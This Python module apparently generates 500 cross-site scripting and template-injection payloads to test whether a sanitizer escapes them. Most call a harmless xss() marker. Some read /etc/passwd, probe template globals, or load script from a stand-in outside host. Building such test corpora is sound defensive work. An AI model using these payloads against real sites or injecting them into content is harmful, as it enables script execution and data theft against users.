"""Five hundred texts that inject a script, made from parts: each calls `xss()` unless it is escaped."""

from __future__ import annotations

from itertools import chain, cycle, islice, product

PAYLOADS = 500
_EVENTS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
    "onbegin",
    "onwheel",
    "onpageshow",
    "onhashchange",
    "onscrollend",
    "onbeforematch",
    "onsecuritypolicyviolation",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "iframe",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "select autofocus",
    "textarea autofocus",
    "marquee",
    "object data=x",
    "embed src=x",
    "math",
    "a href=# tabindex=1 autofocus",
    "div style=animation-name:x",
    "button popovertarget=x",
    "dialog open",
    "link rel=stylesheet href=x",
    "source src=x",
)
_SHAPES = (
    "<{0} {1}=xss()>",
    '<{0} {1}="xss()">',
    "<{0}/{1}=xss()//",
    "<{0}\n{1}\n=\nxss()>",
    "<{0} {1}=&#120;ss()>",
    "<{0} {1}=xss`1`>",
    '"><{0} {1}=xss()>',
    "'><{0} {1}=xss()>",
    "</textarea><{0} {1}=xss()>",
    "</title></style></script><{0} {1}=xss()>",
    "-->{0}<{0} {1}=xss()>",
    "]]><{0} {1}=xss()>",
)
_SCRIPTS = (
    "<script>xss()</script>",
    "<ScRiPt>xss()</sCrIpT>",
    "<script\t>xss()</script\n>",
    "<script src=data:,xss()></script>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<svg><script>xss()</script></svg>",
    "<svg><script href=data:,xss() />",
    "<math><mtext><script>xss()</script></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
    "<template><script>xss()</script></template>",
    "<script type=module>xss()</script>",
    "<!--<script>--><script>xss()</script>",
    "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
    "<svg><style><img src=x onerror=xss()></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>",
    "<x contenteditable onblur=xss() autofocus>x",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><a><animate attributeName=href values=javascript:xss() /><text y=20>x",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<base href=javascript:xss()//>",
    "<object data=javascript:xss()>",
    "<embed src=javascript:xss()>",
    "<iframe src=javascript:xss()>",
)
_SCHEMES = (
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    "java\tscript:xss()",
    "java\nscript:xss()",
    " javascript:xss()",
    "\x01javascript:xss()",
    "javascript&colon;xss()",
    "javascript&#58;xss()",
    "&#106;avascript:xss()",
    "javascript://x/%0axss()",
    "data:text/html,<script>xss()</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "vbscript:xss()",
    "data:image/svg+xml,<svg onload=xss()>",
    "feed:javascript:xss()",
    "view-source:javascript:xss()",
    "//x.example/x.js",
)
_LINKS = (
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[x]: {}\n\n[x]",
    "<{}>",
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    '[x]({} "onmouseover=xss()")',
    '[x](https://x.example/"onmouseover="xss())',
    "{}",
)
_TEMPLATES = (
    "{{{{xss()}}}}",
    "{{{{7*7}}}}{{% for x in (1,) %}}{{{{xss()}}}}{{% endfor %}}",
    "${{xss()}}",
    "#{{xss()}}",
    "<%= xss() %>",
    "{{{{constructor.constructor('xss()')()}}}}",
    "{{{{request.application.__globals__}}}}",
    "%(xss)s %s {{0}} %n",
    "@@include(xss)",
    "`${{xss()}}`",
    '#eval("xss()")',
    '#read("/etc/passwd")',
    '#link("javascript:xss()")[x]',
    '$x$ #import "x"',
)
_STYLES = (
    "<style>@import 'javascript:xss()';</style>",
    '<p style="background:url(javascript:xss())">',
    "<p style='width:expression(xss())'>",
    "<link rel=stylesheet href=javascript:xss()>",
    "<style>*{{background:url('data:,xss()')}}</style>",
    "</style><script>xss()</script>",
    "<p style=behavior:url(#default#time2) onbegin=xss()>",
    '<div style="-moz-binding:url(x)">',
)
_DISGUISES = (
    "{}",
    "\ufeff{}",
    "\u202e{}\u202c",
    "{}\x00",
    "＜script＞xss()＜/script＞{}",
    "\u2028{}",
    "%3Cscript%3Exss()%3C/script%3E{}",
    "&lt;script&gt;xss()&lt;/script&gt;{}",
    "\\u003cscript\\u003exss()\\u003c/script\\u003e{}",
    "\\x3cscript\\x3e{}",
    "+ADw-script+AD4-xss()+ADw-/script+AD4-{}",
    "\u00bcscript\u00bexss()\u00bc/script\u00be{}",
    "';xss();//{}",
    '";xss();//{}',
    "</script><script>xss()</script>{}",
    "*/xss()/*{}",
    "<![CDATA[{}]]>",
    "<?xml version='1.0'?>{}",
    "&{{xss()}};{}",
    "=xss(){}",
)


def payloads() -> list[str]:
    """Return PAYLOADS different texts, with each kind well represented."""
    events = (
        shape.format(tag, event) for (tag, event), shape in zip(product(_TAGS, _EVENTS), cycle(_SHAPES), strict=False)
    )
    schemes = (link.format(scheme) for link, scheme in product(_LINKS, _SCHEMES))
    templates = (template.replace("{{", "{").replace("}}", "}") for template in _TEMPLATES)
    styles = (style.replace("{{", "{").replace("}}", "}") for style in _STYLES)
    disguises = (
        disguise.replace("{}", script)
        for disguise, script in product(_DISGUISES, ("<img src=x onerror=xss()>", _SCRIPTS[0]))
    )
    first = dict.fromkeys(chain(_SCRIPTS, templates, styles, disguises, schemes))
    return list(islice(dict.fromkeys(chain(first, events)), PAYLOADS))
